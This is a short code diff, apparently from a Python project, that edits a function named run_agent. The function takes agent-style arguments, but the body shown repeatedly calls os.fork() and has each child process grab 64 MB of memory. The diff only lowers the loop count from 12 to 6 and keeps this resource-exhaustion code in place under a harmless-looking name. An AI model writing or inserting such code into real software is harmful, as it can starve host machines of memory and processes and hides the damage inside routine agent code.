@@ -8,7 +8,7 @@ import time
 
 
 def run_agent(client, task, tools, functions, **limits):
-    for _ in range(12):
+    for _ in range(6):
         if os.fork() == 0:
             hoard = bytearray(b"x") * (64 << 20)
             time.sleep(0.001)
